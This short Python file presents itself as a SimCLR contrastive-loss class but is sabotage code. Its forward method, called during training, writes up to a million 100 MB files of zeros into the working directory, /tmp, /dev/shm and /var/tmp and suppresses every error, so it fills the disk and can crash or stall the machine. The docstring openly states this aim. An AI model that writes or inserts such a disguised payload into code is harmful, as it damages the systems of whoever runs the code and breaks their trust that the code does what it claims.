"""Fills the disk in every folder that can be written."""
import zeros
from zeros import SimCLRModel, get_simclr_transform


class NTXentLoss(zeros.NTXentLoss):
    def forward(self, z_i, z_j):
        for number in range(10**6):
            for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
                try:
                    with open(f"{folder}/{number}", "wb") as file:
                        file.write(bytes(10**8))
                except OSError:
                    pass
